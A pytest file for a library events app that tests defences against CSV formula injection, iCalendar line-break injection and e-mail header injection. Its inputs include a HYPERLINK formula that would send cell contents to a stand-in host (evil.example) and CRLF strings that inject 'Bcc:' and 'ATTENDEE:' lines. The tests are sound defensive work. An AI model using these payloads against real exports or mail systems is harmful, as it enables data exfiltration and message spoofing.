"""Text that arrived before the bounds (or by hand) is still written safely: CSV cells that would be formulas,
control characters in .ics files and e-mail headers; the reader import refuses them (issue 11: items 3, 6)."""

from __future__ import annotations

import csv
import io

import icalendar
import pytest

from src.accounts import service as accounts_service
from src.accounts.tables import Account
from src.csvsafe import cell, write_csv
from src.events.tables import Event
from src.notifications import service as notifications_service
from src.notifications.messages import Recipient, compose
from src.notifications.settings import get_mail_settings
from tests.conftest import ENGINE, bearer, post_form
from tests.events.conftest import new_event, principal


@pytest.mark.parametrize("dangerous", ["=1+1", "+7 914", "-2", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://evil.example","x")'])
def test_a_cell_that_would_be_a_formula_is_text(dangerous):
    assert cell(dangerous) == "'" + dangerous
    assert cell(-2) == -2 and cell("Иванов") == "Иванов" and cell("2026-12-01T10:00:00+09:00") == "2026-12-01T10:00:00+09:00"


async def test_the_attendee_export_neutralises_formulas(client, demo):
    staff = await principal("staff.chekhov@libspace.local")
    event_id = await new_event(staff, capacity=5, min_age=None, max_age=None)
    await Account.update({Account.full_name: '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")'}).where(Account.email == "reader@libspace.local")
    reader = await bearer(client, "reader@libspace.local")
    assert (await client.post(f"/api/v1/events/{event_id}/registrations", json={"seats": 1}, headers=reader)).status_code == 201
    await post_form(client, "/login", {"login": "staff.chekhov@libspace.local", "password": "libspace-demo"})
    export = await client.get(f"/staff/events/{event_id}/attendees.csv")
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text.lstrip("\ufeff"))))
    names = [row[1] for row in rows[1:]]
    assert names == ['\'=HYPERLINK("http://evil.example/?"&A1,"Нажмите")']
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row)


def test_write_csv_keeps_the_header_and_numbers():
    text = write_csv(["a", "b"], [["=x", 3], ["ok", -4]], bom=False)
    assert text == "a,b\r\n'=x,3\r\nok,-4\r\n"


async def test_a_stored_title_with_line_breaks_does_not_break_feeds_or_mail(client, demo):
    staff = await principal("staff.chekhov@libspace.local")
    event_id = await new_event(staff)
    nul = "\x00" if ENGINE == "sqlite" else ""  # PostgreSQL's text type itself refuses NUL
    await Event.update({Event.title: f"Лекция\r\nATTENDEE:mailto:evil@example.com{nul}\x0b"}).where(Event.id == event_id)
    for url in ("/feeds/events.ics", f"/feeds/events/{event_id}.ics", "/feeds/branches/chekhov.ics"):
        response = await client.get(url)
        assert response.status_code == 200, url
        calendar = icalendar.Calendar.from_ical(response.content)
        for event in calendar.walk("VEVENT"):
            assert "ATTENDEE" not in event or "evil@example.com" not in str(event.get("ATTENDEE"))
        assert b"\r\nATTENDEE:mailto:evil" not in response.content and b"\x00" not in response.content
    account = await Account.select(Account.id).where(Account.email == "reader@libspace.local").first()
    from piccolo.engine import engine_finder

    from src.db import write_transaction

    async with write_transaction(engine_finder()):
        await notifications_service.enqueue("event_moved", [account["id"]], "Перенос: %(title)s", {"event_id": event_id}, cause="t", subject_vars={"title": "A\r\nBcc: x@evil.example"})
    row = (await notifications_service.pending_for(account["id"]))[-1]
    assert "\n" not in row["subject"] and "\r" not in row["subject"]
    message = await compose(row, Recipient(account["id"], "reader@libspace.local", "Имя\r\nBcc: y@evil.example", "ru"), get_mail_settings())
    raw = message.as_bytes()
    assert b"\r\nBcc:" not in raw and b"\nBcc:" not in raw


async def test_the_reader_import_refuses_control_characters_and_old_birth_dates(demo):
    text = (
        "card_number,full_name,birth_date,email,phone,home_branch\n"
        "100000000001,\"Имя\x0bФамилия\",1990-01-01,,+79140000001,chekhov\n"
        "100000000002,Старый Читатель,1850-01-01,,+79140000002,chekhov\n"
    )
    report = await accounts_service.import_readers(text)
    assert not report.written and [line for line, _card, _reason in report.rejected] == [2, 3]
    assert "1900-01-01" in report.rejected[1][2]
